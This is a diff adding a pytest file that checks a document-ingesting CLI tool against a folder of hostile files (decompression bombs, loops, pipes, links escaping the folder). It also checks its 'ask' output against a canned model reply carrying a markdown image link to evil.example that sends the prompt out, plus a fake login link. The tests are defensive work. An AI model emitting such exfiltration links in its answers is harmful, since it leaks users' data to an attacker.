@@ -1,0 +1,71 @@
+"""A folder that is out to harm: it costs its own files and nothing else."""
+
+import json
+import re
+
+import pytest
+
+from tests.cli.command_line import CommandLine
+from tests.cli.pseudo_terminal import shown
+from tests.faults import hostile_folder
+from tests.faults.warm_command_line import Run, warm
+from tests.openai_replies import answer
+from tests.openai_server import OpenAIServer
+
+LONGEST_S = 60.0
+MOST_MB = 900
+
+
+@pytest.fixture(scope="module")
+def victim(tmp_path_factory: pytest.TempPathFactory) -> CommandLine:
+    home = tmp_path_factory.mktemp("victim")
+    hostile_folder.make(home / "work" / "docs")
+    return CommandLine(home=home, directory=home / "work")
+
+
+@pytest.fixture(scope="module")
+def ingested(victim: CommandLine) -> Run:
+    with warm(victim, time_limit_s=2 * LONGEST_S) as machine:
+        return machine.run("ingest", "docs", "--jsonl")
+
+
+def test_a_folder_of_traps_costs_its_files_and_nothing_else(ingested: Run) -> None:
+    events = [json.loads(line) for line in ingested.outcome.stdout.splitlines()]
+    told = {event["source"]: event["action"] for event in events if "action" in event}
+
+    assert ingested.outcome.code == 6, ingested
+    assert {name for name, action in told.items() if action == "failed"} >= {
+        "docs/bomb.docx",
+        "docs/many.docx",
+        "docs/loop.pdf",
+        "docs/sparse.txt",
+    }
+    for trap in ("pipe.md", "socket.md", "itself.md", "outside.md", "memory.md"):
+        assert told[f"docs/{trap}"] == "skipped", told
+    for name in hostile_folder.GOOD:
+        assert told["docs/" + name.replace("\n", " ").replace("\x1b", "\ufffd")] == "added", told
+    assert any(name.endswith("deep down.md") and action == "added" for name, action in told.items())
+
+
+def test_it_takes_bounded_memory_and_time(ingested: Run) -> None:
+    assert (ingested.peak_mb < MOST_MB, ingested.took_s < LONGEST_S) == (True, True), ingested
+
+
+def test_what_lies_outside_is_not_read(ingested: Run, victim: CommandLine) -> None:
+    assert ingested.outcome.code == 6
+    assert [path for path in victim.store.rglob("*.sqlite3*") if b"Nobody asked" in path.read_bytes()] == []
+
+
+def test_a_document_that_asks_for_links_gets_none_on_a_terminal(ingested: Run, victim: CommandLine) -> None:
+    assert ingested.outcome.code == 6
+    obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
+    with OpenAIServer(chat=answer(obedient)) as server:
+        terminals = [
+            shown(victim, "ask", "When does the ferry leave?", *flags, columns=160)
+            for flags in (("--base-url", server.base_url, "-m", "m"), ())
+        ]
+
+    for terminal in terminals:
+        leads = [each for each in re.findall(rb"\x1b\]8;[^;]*;([^\x1b\x07]*)", terminal.raw) if each]
+        assert [each for each in leads if not each.startswith(b"file://" + str(victim.directory).encode())] == []
+        assert b"\x1b]52" not in terminal.raw
